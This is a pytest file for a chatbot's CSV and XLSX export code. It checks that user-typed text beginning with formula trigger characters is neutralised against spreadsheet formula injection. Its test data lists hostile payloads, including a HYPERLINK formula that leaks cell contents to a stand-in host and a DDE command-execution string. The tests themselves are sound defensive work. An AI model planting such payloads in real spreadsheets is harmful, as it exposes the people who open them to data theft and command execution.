"""Exports never carry a live formula: everything user-typed is neutralised (OWASP) in CSV and XLSX alike."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from bot import questions
from bot.bootstrap import App
from bot.exports import TRIGGERS, is_risky, neutralise
from bot.questions import LogFilter
from bot.storage.tables import Person

from .helpers import plain, say

OFFICE = "ot-trois-vallees"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =cmd|' /C calc'!A0",
    "\u00a0@x",
    "＝1+1",
]


def _seed(app: App) -> None:
    for number, text in enumerate(HOSTILE, start=1):
        assert f"n°{number}" in plain(say(app, "gite-du-moulin", f"/question {text.strip() or 'x'} {number}"))
    with app.sessions.begin() as db:
        person = db.scalars(select(Person).where(Person.slug == "gite-du-moulin")).one()
        person.business = "=1+2 Gîte"
        person.name = "@Jean"
    say(app, "camille-ant", "/repondu 1 -voir la fiche +infos", chat="equipe")


def _table(app: App) -> list[list[str]]:
    with app.sessions() as db:
        return questions.rows(db, questions.search(db, LogFilter(office_ids=(OFFICE,))))


@pytest.mark.parametrize("text", HOSTILE)
def test_every_trigger_is_neutralised(text: str) -> None:
    assert is_risky(text) and neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Comment faire ?", "", "2026-11-20", "0,85", "a=b", "e-mail", "'déjà"])
def test_ordinary_text_is_untouched(text: str) -> None:
    assert neutralise(text) == text


def test_csv_cells_never_start_a_formula(app: App) -> None:
    _seed(app)
    data = questions.to_csv(_table(app))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert len(rows) == len(HOSTILE) + 1
    for cell in cells:
        assert cell.lstrip(" \u00a0\n")[:1] not in TRIGGERS, cell
        assert cell[:1] not in ("\t", "\r"), cell
    assert "'=1+2 Gîte" in cells and "'@Jean" in cells and "'-voir la fiche +infos" in cells
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)


def test_xlsx_has_no_formula_and_keeps_the_text(app: App) -> None:
    _seed(app)
    table = _table(app)
    ws = load_workbook(io.BytesIO(questions.to_xlsx(table))).active
    assert ws is not None
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert all(text.lstrip(" \u00a0\n")[:1] not in TRIGGERS for text in texts)
    hyperlink = next(cell for cell in cells if isinstance(cell.value, str) and "HYPERLINK" in cell.value)
    assert hyperlink.data_type == "s" and hyperlink.quotePrefix
    assert hyperlink.value == "'" + table[0][6]  # the question itself, shown literally
    # Numbers stay numbers: only text is touched.
    assert ws.cell(row=2, column=1).value == 1 and ws.cell(row=2, column=11).data_type == "n"
